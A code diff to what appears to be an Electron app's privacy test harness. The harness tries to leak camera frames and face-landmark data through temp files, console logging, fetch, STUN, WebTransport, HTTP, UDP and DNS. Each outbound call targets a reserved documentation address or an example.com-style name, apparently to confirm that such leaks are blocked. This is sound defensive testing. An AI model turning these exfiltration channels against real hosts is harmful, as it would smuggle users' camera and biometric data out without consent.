@@ -1,9 +1,8 @@
 import type { WebContents } from 'electron'
 import { appendFileSync, closeSync, fsyncSync, openSync, unlinkSync, writeFileSync, writeSync } from 'node:fs'
 import { createSocket } from 'node:dgram'
-import { lookup } from 'node:dns'
+import { Resolver } from 'node:dns'
 import { get } from 'node:http'
-import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import type { Devtools } from './devtools'
 import { leakDirectory } from './fallenWalls'
@@ -16,8 +15,17 @@ export interface LeakParts {
   readonly tap: LandmarkTap
 }
 
-/** Addresses for documentation, which nobody has (RFC 5737, RFC 2606). */
-const OUTSIDE_ADDRESS = '192.0.2.7'
+/** Addresses and names for documentation, which nobody has (RFC 5737, RFC 2606): one for each way out. */
+const OUTSIDE = {
+  fetch: '192.0.2.7',
+  stun: '192.0.2.8',
+  webTransport: '192.0.2.9',
+  http: '192.0.2.10',
+  udp: '192.0.2.11',
+  nameServer: '192.0.2.12',
+} as const
+/** Not the variable of the environment: that may lead to memory. */
+const TEMPORARY = '/tmp'
 const OUTSIDE_NAME = 'kazari-proof.example'
 
 /** The picture of the camera as it is now, in the page. */
@@ -76,7 +84,7 @@ const attempts: Readonly<Record<LeakKind, (parts: LeakParts) => Promise<object>>
   },
   'jpeg-written-and-unlinked': async ({ devtools }) => {
     const bytes = await frameBytes(devtools, 'image/jpeg')
-    const path = join(tmpdir(), 'frame.jpg')
+    const path = join(TEMPORARY, 'frame.jpg')
     const file = openSync(path, 'w')
     writeSync(file, bytes)
     fsyncSync(file)
@@ -96,25 +104,30 @@ const attempts: Readonly<Record<LeakKind, (parts: LeakParts) => Promise<object>>
     appendFileSync(path, `${JSON.stringify({ level: 'debug', landmarks: points })}\n`)
     return { numbers: points.length, path }
   },
+  'landmarks-on-console': async ({ devtools, tap }) => {
+    const points = await lastPoints(tap)
+    await devtools.evaluate(`console.warn(${JSON.stringify(JSON.stringify(points))})`)
+    return { numbers: points.length }
+  },
   'pdf-in-temporary-directory': async ({ contents }) => {
     const pdf = await contents.printToPDF({ printBackground: true })
-    const path = join(tmpdir(), 'print-job.pdf')
+    const path = join(TEMPORARY, 'print-job.pdf')
     writeFileSync(path, pdf)
     return { bytes: pdf.length, path }
   },
 
-  fetch: ({ devtools }) => inPage(devtools, `fetch('http://${OUTSIDE_ADDRESS}/').catch(String)`),
+  fetch: ({ devtools }) => inPage(devtools, `fetch('http://${OUTSIDE.fetch}/').catch(String)`),
   stun: ({ devtools }) =>
     inPage(
       devtools,
       `(async () => {
-        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${OUTSIDE_ADDRESS}:3478' }] })
+        const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${OUTSIDE.stun}:3478' }] })
         peer.createDataChannel('x')
         await peer.setLocalDescription(await peer.createOffer())
       })()`,
     ),
   'web-transport': ({ devtools }) =>
-    inPage(devtools, `new WebTransport('https://${OUTSIDE_ADDRESS}:4433/').ready.catch(String)`),
+    inPage(devtools, `new WebTransport('https://${OUTSIDE.webTransport}:4433/').ready.catch(String)`),
   'dns-prefetch': ({ devtools }) =>
     inPage(
       devtools,
@@ -129,7 +142,7 @@ const attempts: Readonly<Record<LeakKind, (parts: LeakParts) => Promise<object>>
     ),
   'node-http': () =>
     new Promise((resolve) => {
-      const request = get(`http://${OUTSIDE_ADDRESS}/`)
+      const request = get(`http://${OUTSIDE.http}/`)
       request.on('error', (error) => resolve({ error: error.message }))
       setTimeout(() => (request.destroy(), resolve({ error: 'no answer' })), 1_500)
     }),
@@ -137,13 +150,17 @@ const attempts: Readonly<Record<LeakKind, (parts: LeakParts) => Promise<object>>
     new Promise((resolve) => {
       const socket = createSocket('udp4')
       socket.on('error', (error) => resolve({ error: error.message }))
-      socket.send('face', 53, OUTSIDE_ADDRESS, (error) => {
+      socket.send('face', 5005, OUTSIDE.udp, (error) => {
         socket.close()
         resolve({ error: error?.message ?? null })
       })
     }),
   'node-lookup': () =>
-    new Promise((resolve) => lookup(OUTSIDE_NAME, (error) => resolve({ error: error?.code ?? null }))),
+    new Promise((resolve) => {
+      const resolver = new Resolver({ timeout: 1_000, tries: 1 })
+      resolver.setServers([OUTSIDE.nameServer])
+      resolver.resolve4(OUTSIDE_NAME, (error) => resolve({ error: error?.code ?? null }))
+    }),
 }
 
 const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))
